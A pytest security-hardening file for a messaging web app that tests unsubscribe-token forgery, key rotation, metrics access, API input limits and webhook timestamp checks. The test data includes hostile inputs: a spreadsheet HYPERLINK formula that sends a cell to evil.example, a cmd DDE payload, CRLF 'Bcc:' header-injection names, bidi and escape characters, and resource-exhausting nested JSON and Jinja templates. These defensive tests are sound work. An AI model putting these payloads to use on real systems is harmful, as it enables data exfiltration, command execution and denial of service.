"""Issue #16: forged links, leaky metrics, spreadsheet formulas, hostile names and bodies.

Each test states the attack it closes. Web tests run the real app in process (Starlette's
AsgiClient) over real PostgreSQL and Redis; ``rapid web`` with ``METRICS_PORT`` runs as a
process.
"""

from __future__ import annotations

import base64
import csv
import json
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import Engine

from config.settings import Settings, load_settings
from messaging.content.unsubscribe import UnsubscribeTokens, key_id
from messaging.errors import ConfigError
from messaging.supporters.normalize import normalize_text
from tests.conftest import free_port
from tests.fuzzing import AsgiClient
from tests.running_web import SG_PUBLIC, sendgrid_headers, service_settings
from workers.app import App

KEY = "k" * 32
OLD_KEY = "o" * 32
API_TOKEN = "hardening-api-token-0123456789abcdef"


# --- RAPID_ENV, RAPID_SECRET_KEY, PUBLIC_BASE_URL --------------------------------------------


def test_production_requires_a_secret_key_of_32_bytes_never_derived_from_sendgrid() -> None:
    # Given production settings with a SendGrid key but no RAPID_SECRET_KEY
    settings = load_settings(
        {"SENDGRID_API_KEY": "SG.x.y", "PUBLIC_BASE_URL": "https://rr.example.org"}
    )
    assert settings.environment == "production"
    # Then there is no unsubscribe key (it used to be derived from the SendGrid key, so anyone
    # who learnt that key could forge unsubscribes), and the error names the variable
    with pytest.raises(ConfigError, match=r"^RAPID_SECRET_KEY: required"):
        settings.unsubscribe_key()
    # And a short key is refused at start
    with pytest.raises(ConfigError, match=r"^RAPID_SECRET_KEY: must be at least 32 bytes"):
        load_settings({"RAPID_SECRET_KEY": "sixteen-chars-ok"})
    assert load_settings({"RAPID_SECRET_KEY": KEY}).unsubscribe_key() == KEY.encode()


def test_demo_and_test_runs_get_a_throwaway_key_shared_by_their_processes() -> None:
    for env in ("demo", "test"):
        a = load_settings({"RAPID_ENV": env, "RAPID_PREFIX": "p1"})
        b = load_settings({"RAPID_ENV": env, "RAPID_PREFIX": "p1"})
        assert a.unsubscribe_key() == b.unsubscribe_key()
        assert len(a.unsubscribe_key()) >= 32
    with pytest.raises(ConfigError, match=r"^RAPID_ENV: must be one of"):
        load_settings({"RAPID_ENV": "staging"})


def test_email_links_must_be_https_in_production() -> None:
    # Given email configured and PUBLIC_BASE_URL left at its default (http://127.0.0.1:8000)
    with pytest.raises(ConfigError, match=r"^PUBLIC_BASE_URL: must be an https:// URL"):
        load_settings({"SENDGRID_API_KEY": "SG.x.y", "RAPID_SECRET_KEY": KEY})
    with pytest.raises(ConfigError, match=r"^PUBLIC_BASE_URL"):
        load_settings({"SENDGRID_API_KEY": "SG.x.y", "PUBLIC_BASE_URL": "http://rr.example.org"})
    # Then https passes, and demo/test runs may use http on loopback
    load_settings({"SENDGRID_API_KEY": "SG.x.y", "PUBLIC_BASE_URL": "https://rr.example.org"})
    load_settings({"SENDGRID_API_KEY": "SG.x.y", "RAPID_ENV": "test"})


def test_metrics_port_must_differ_from_the_public_port() -> None:
    with pytest.raises(ConfigError, match=r"^METRICS_PORT"):
        load_settings({"PORT": "8000", "METRICS_PORT": "8000"})
    assert load_settings({"METRICS_PORT": "9100"}).metrics_port == 9100


# --- unsubscribe tokens: key ids and rotation -------------------------------------------------


def test_tokens_carry_a_key_id_and_verify_after_a_rotation() -> None:
    # Given a link mailed before the key rotated
    old = UnsubscribeTokens(OLD_KEY.encode())
    token = old.make("Jane@Example.org", "b1")
    assert token.split(".")[0] == key_id(OLD_KEY.encode())
    # When the server holds the new key and the previous one
    rotated = UnsubscribeTokens(KEY.encode(), [OLD_KEY.encode()])
    # Then the old link still works and new links are made with the new key
    claim = rotated.verify(token)
    assert claim is not None and (claim.email, claim.blast_id) == ("jane@example.org", "b1")
    assert rotated.make("a@b.org", "b2").split(".")[0] == key_id(KEY.encode())
    # And once the previous key is dropped, the old link stops working
    assert UnsubscribeTokens(KEY.encode()).verify(token) is None


def test_forged_and_altered_tokens_fail_whatever_key_id_they_claim() -> None:
    tokens = UnsubscribeTokens(KEY.encode(), [OLD_KEY.encode()])
    genuine = tokens.make("jane@example.org", "b1")
    kid, payload, mac = genuine.split(".")
    forged = UnsubscribeTokens(b"f" * 32).make("jane@example.org", "b1")
    for bad in (
        forged,
        f"{key_id(OLD_KEY.encode())}.{payload}.{mac}",  # someone else's key id
        f"{kid}.{payload[:-2]}AA.{mac}",
        f"{kid}.{payload}",
        "",
        "...",
        "a.b.c.d",
        f"{kid}.{payload}.{mac}x",
    ):
        assert tokens.verify(bad) is None, bad


def test_genuine_tokens_naming_no_plausible_address_are_refused() -> None:
    # Found by fuzzing: a token for "\x00" reached the suppression list and PostgreSQL (a 500)
    tokens = UnsubscribeTokens(KEY.encode())
    for email, blast_id in (("\x00", "b1"), ("a@b.org", "b\r1"), ("x" * 400, "b1"), ("", "b1")):
        assert tokens.verify(tokens.make(email, blast_id)) is None, (email, blast_id)


def test_tokens_made_before_key_ids_still_verify() -> None:
    # A link from the previous format: base64(payload).base64(HMAC(key, payload))
    import hashlib
    import hmac

    payload = b'["jane@example.org","b0"]'
    mac = hmac.new(KEY.encode(), payload, hashlib.sha256).digest()

    def b64(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

    claim = UnsubscribeTokens(KEY.encode()).verify(f"{b64(payload)}.{b64(mac)}")
    assert claim is not None and claim.blast_id == "b0"


# --- CSV rejects and imported names -----------------------------------------------------------


def test_rejects_file_neutralises_formulas(engine: Engine, tmp_path: Path) -> None:
    # Given a CSV whose rejected values are spreadsheet formulas
    from messaging.store.sql.supporters import SqlSupporterWriter
    from messaging.supporters.csv_import import import_csv

    source = tmp_path / "voters.csv"
    source.write_text(
        "external_id,phone,email,state\n"
        '1,"=HYPERLINK(""https://evil.example/?""&A1,""fix"")",@SUM(1+1),-2+3\n'
        "+2,+1 555 000,=cmd|' /C calc'!A0,ZZ\n",
        encoding="utf-8",
    )
    report = import_csv(source, SqlSupporterWriter(engine))
    assert report.rejects_path is not None
    # When an operator opens the rejects file, then no cell starts a formula
    with report.rejects_path.open(encoding="utf-8-sig", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"fix")' in cells
    assert "'@SUM(1+1)" in cells


def test_imported_names_lose_line_breaks_and_control_characters() -> None:
    assert normalize_text("Ann\r\nBcc: x@evil.example", "first_name", 100) == (
        "Ann Bcc: x@evil.example"
    )
    assert normalize_text("\u202eevil\u202c Bob\x00\x1b[31m", "first_name", 100) == "evil Bob [31m"
    assert normalize_text(" Zoë \u2028", "first_name", 100) == "Zoë"


def test_email_subjects_lose_carriage_returns() -> None:
    from messaging.content.templates import header_line, render

    subject = render("Hi {{ first_name }}", {"first_name": "Ann\rBcc: x@evil.example"})
    assert header_line(subject) == "Hi Ann Bcc: x@evil.example"
    assert "\r" not in header_line("a\r\n\x0bb\u2028c")


# --- the web app: metrics, API inputs, SendGrid timestamps ------------------------------------


def web_settings(pg_url: str, moto_url: str, prefix: str, **overrides: Any) -> Settings:
    """Settings of a test ``rapid web`` (production rules unless overridden)."""
    return service_settings(
        pg_url,
        prefix,
        moto_url,
        api_token=API_TOKEN,
        secret_key=KEY,
        sendgrid_webhook_public_key=SG_PUBLIC,
        public_base_url="https://rr.example.org",
        twilio_auth_token="twilio-token-0123456789abcdef",
    ).with_overrides(**overrides)


@pytest.fixture
def make_client(pg_url: str, moto_url: str, prefix: str) -> Iterator[Callable[..., AsgiClient]]:
    """In-process clients of the real web app; ``base_url`` sets the port a request arrives on."""
    from workers.web.app import create_app

    apps: list[App] = []
    clients: list[AsgiClient] = []

    def make(base_url: str = "http://testserver", **overrides: Any) -> AsgiClient:
        app = App(web_settings(pg_url, moto_url, prefix, **overrides))
        apps.append(app)
        clients.append(AsgiClient(create_app(app), base_url=base_url))
        return clients[-1]

    yield make
    for client in clients:
        client.close()
    for app in apps:
        app.close()


def test_web_refuses_to_start_without_a_secret_key_in_production(
    pg_url: str, moto_url: str, prefix: str
) -> None:
    from workers.web.app import create_app

    app = App(web_settings(pg_url, moto_url, prefix, secret_key=None))
    try:
        with pytest.raises(ConfigError, match=r"^RAPID_SECRET_KEY"):
            create_app(app)
    finally:
        app.close()


def test_metrics_need_an_operator_token_on_the_public_port(
    make_client: Callable[..., AsgiClient],
) -> None:
    client = make_client()
    # When /metrics is scraped from the internet without a token, then it is refused
    assert client.get("/metrics").status_code in (401, 403)
    assert client.get("/metrics", headers={"Authorization": "Bearer wrong"}).status_code == 401
    # And an operator token reads it
    ok = client.get("/metrics", headers={"Authorization": f"Bearer {API_TOKEN}"})
    assert ok.status_code == 200
    assert "rapid_" in ok.text


def test_the_metrics_port_serves_metrics_without_a_token_and_nothing_else(
    make_client: Callable[..., AsgiClient],
) -> None:
    client = make_client(base_url="http://testserver:9100", metrics_port=9100)
    assert client.get("/metrics").status_code == 200
    assert client.get("/healthz").status_code == 200
    for path in ("/api/blasts", "/unsubscribe/x", "/api/openapi.json"):
        assert client.get(path).status_code == 404, path
    # While the public port of the same app still wants a token
    public = make_client(base_url="http://testserver:8000", metrics_port=9100)
    assert public.get("/metrics").status_code in (401, 403)


def test_api_limits_and_nesting_are_422_not_500(make_client: Callable[..., AsgiClient]) -> None:
    client = make_client()
    auth = {"Authorization": f"Bearer {API_TOKEN}"}
    # "²".isdigit() is True and int("²") raises: that was a 500
    for limit in ("²", "١٢", "0", "-1", "1e3", "9" * 50, " 5"):
        response = client.get("/api/blasts", params={"limit": limit}, headers=auth)
        assert response.status_code == 422, limit
    assert client.get("/api/blasts", params={"limit": "5"}, headers=auth).status_code == 200
    # A document nested 100,000 deep was a RecursionError and a 500
    deep = b"[" * 100_000 + b"]" * 100_000
    response = client.post("/api/alerts", content=deep, headers=auth)
    assert response.status_code in (413, 422)
    deep = b'{"topic": "t", "sms": ' + b"[" * 20_000 + b"]" * 20_000 + b"}"
    response = client.post("/api/alerts", content=deep, headers=auth)
    assert response.status_code == 422
    assert "error" in response.json()


def test_a_hostile_alert_does_not_stall_the_event_loop(
    make_client: Callable[..., AsgiClient],
) -> None:
    # Given an alert whose template is over a limit, posted to the API
    client = make_client()
    auth = {"Authorization": f"Bearer {API_TOKEN}"}
    alert = {
        "topic": "debate-night",
        "sms": {
            "body": "{% for i in range(9999) %}{% for j in range(9999) %}{% endfor %}{% endfor %}"
        },
    }
    started = time.monotonic()
    response = client.post("/api/alerts", json=alert, headers=auth)
    # Then it is refused with its reason, fast
    assert response.status_code == 422
    assert "template over a limit" in response.json()["error"]
    assert time.monotonic() - started < 1.0


def test_sendgrid_batches_outside_ten_minutes_are_refused(
    make_client: Callable[..., AsgiClient],
) -> None:
    client = make_client()
    body = json.dumps(
        [{"email": "jane@example.org", "event": "bounce", "sg_event_id": "e1", "timestamp": 1}]
    ).encode()
    now = int(time.time())
    for skew in (-601, 601, -86_400):
        stale = client.post(
            "/webhooks/sendgrid/events",
            content=body,
            headers=sendgrid_headers(body, timestamp=str(now + skew)),
        )
        assert stale.status_code == 403, skew
    fresh = client.post(
        "/webhooks/sendgrid/events",
        content=body,
        headers=sendgrid_headers(body, timestamp=str(now - 30)),
    )
    assert fresh.status_code == 200


def test_rapid_web_listens_on_metrics_port_too(rapid_env: dict[str, str], tmp_path: Path) -> None:
    # Given `rapid web` started with METRICS_PORT
    port, metrics_port = free_port(), free_port()
    env = {**rapid_env, "RAPID_API_TOKEN": API_TOKEN, "METRICS_PORT": str(metrics_port)}
    subprocess.run(
        [sys.executable, "-m", "workers", "provision"], env=env, check=True, capture_output=True
    )
    proc = subprocess.Popen(
        [sys.executable, "-m", "workers", "web", "--host", "127.0.0.1", "--port", str(port)],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=1)
                break
            except httpx.TransportError:
                assert proc.poll() is None, proc.stderr.read() if proc.stderr else ""
                assert time.monotonic() < deadline, "rapid web did not start"
                time.sleep(0.2)
        # Then the metrics port serves metrics without a token, and only metrics
        inside = httpx.get(f"http://127.0.0.1:{metrics_port}/metrics", timeout=10)
        assert inside.status_code == 200 and "rapid_" in inside.text
        assert httpx.get(f"http://127.0.0.1:{metrics_port}/api/blasts").status_code == 404
        # And the public port wants a token
        assert httpx.get(f"http://127.0.0.1:{port}/metrics").status_code in (401, 403)
    finally:
        proc.terminate()
        proc.wait(timeout=30)


def test_an_over_limit_alert_is_dead_lettered_with_its_reason_within_a_second(
    rapid_env: dict[str, str],
) -> None:
    # Given the intake worker on a provisioned queue (moto), and an alert whose template
    # allocated 400 MB at validation before (larger ones raised MemoryError, which intake
    # retried instead of dead-lettering)
    from tests.fleet import intake_worker, rapid

    rapid(rapid_env, "provision", "--topic", "debate-night")
    app = App(load_settings(rapid_env))
    alert = {"alert_id": "huge", "topic": "debate-night", "sms": {"body": "{{ 'x' * 4000000000 }}"}}
    with intake_worker(app) as (intake_url, dlq_url):
        # When it is published
        sent_at = time.monotonic()
        app.sqs.send_message(QueueUrl=intake_url, MessageBody=json.dumps(alert))
        # Then it reaches the dead-letter queue with its reason, and no blast is recorded
        messages: list[dict[str, Any]] = []
        while not messages and time.monotonic() - sent_at < 10:
            messages = app.sqs.receive_message(
                QueueUrl=dlq_url, MessageAttributeNames=["All"], WaitTimeSeconds=1
            ).get("Messages", [])
        elapsed = time.monotonic() - sent_at
    assert messages, "the alert never reached the dead-letter queue"
    reason = messages[0]["MessageAttributes"]["reason"]["StringValue"]
    assert "sms.body: template over a limit" in reason
    assert app.blasts.get("huge") is None
    # (within a second of processing; the rest is SQS long-poll latency on moto)
    assert elapsed < 3.0, elapsed
    app.close()
